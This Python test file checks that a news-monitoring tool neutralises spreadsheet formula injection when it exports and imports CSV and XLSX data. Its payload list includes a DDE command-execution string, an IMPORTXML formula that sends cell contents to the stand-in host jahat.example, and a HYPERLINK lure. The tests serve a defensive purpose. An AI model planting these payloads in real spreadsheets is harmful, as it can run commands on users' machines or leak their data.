"""Group 16: texts that a spreadsheet would take for formulas, out to a file and in again."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from clippings import article, tags
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from monitor.collectors.cells import inert, original
from monitor.collectors.imports import read_items
from monitor.config.settings import Settings, Storage
from monitor.storage.store import Store
from monitor.workflows.export import export

pytestmark = pytest.mark.attack(16)

FORMULAS = ["=HYPERLINK(\"http://jahat.example\",\"klik\")", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1",
            "＝1+1", "＋1", "－1", "＠a", "=cmd|' /C calc'!A0", "'=1+1", "''=1+1", "  =1+1", "\n=1+1", "' =1+1",
            "%0A-3+3", "=IMPORTXML(CONCAT(\"http://jahat.example/\",A1),\"//a\")", "-", "=", "'", "Judul biasa"]
STARTS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_never_starts_as_a_formula_and_is_read_back_equal(text: str) -> None:
    cell = inert(text)
    assert not cell.startswith(STARTS)
    assert not cell.lstrip(" \n\t\r'").startswith(STARTS) or cell.startswith("'")
    assert original(cell) == text


@given(st.text(alphabet="'=+-@\t\r\n ＝a1", max_size=12))
def test_any_text_is_read_back_equal(text: str) -> None:
    assert original(inert(text)) == text
    assert not inert(text).startswith(STARTS)


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_an_export_holds_no_formula_and_its_import_gives_the_same_items(tmp_path: Path, ending: str) -> None:
    url = f"sqlite:///{tmp_path}/uji.sqlite"
    stored = [article(f"n{number}", title=text.strip() or "x", text=f"{text.strip()} isi", outlet=text.strip() or "x")
              for number, text in enumerate(FORMULAS) if text != "-"]  # a lone dash means an empty cell
    with Store(url) as store:
        store.add(stored)
        store.save_tags([(each.id, tags(evidence=each.title)) for each in stored])
    file = tmp_path / f"keluar.{ending}"
    export(Settings(storage=Storage(database_url=url)), file)
    if ending == "xlsx":
        book = load_workbook(file)
        assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n", "b"}
        with zipfile.ZipFile(file) as parts:
            assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
    else:
        with file.open(encoding="utf-8-sig", newline="") as lines:
            assert not any(cell.startswith(STARTS) for row in csv.reader(lines) for cell in row
                           if not cell.lstrip("-").replace(".", "").isdigit())
    back = {each.url: each for each in read_items(file, fetched_at=datetime.now(UTC)).articles}
    assert len(back) == len(stored)
    for each in stored:
        assert (back[each.url].title, back[each.url].text, back[each.url].outlet) == (each.title, each.text,
                                                                                     each.outlet)


def test_a_formula_cell_of_a_strangers_workbook_is_read_as_its_value(tmp_path: Path) -> None:
    import openpyxl
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["judul", "isi"])
    sheet.append(["=HYPERLINK(\"http://jahat.example\",\"klik\")", "Isi"])
    buffer = io.BytesIO()
    book.save(buffer)
    (tmp_path / "asing.xlsx").write_bytes(buffer.getvalue())
    found, = read_items(tmp_path / "asing.xlsx", fetched_at=datetime.now(UTC)).articles
    assert "HYPERLINK" not in found.title + found.text
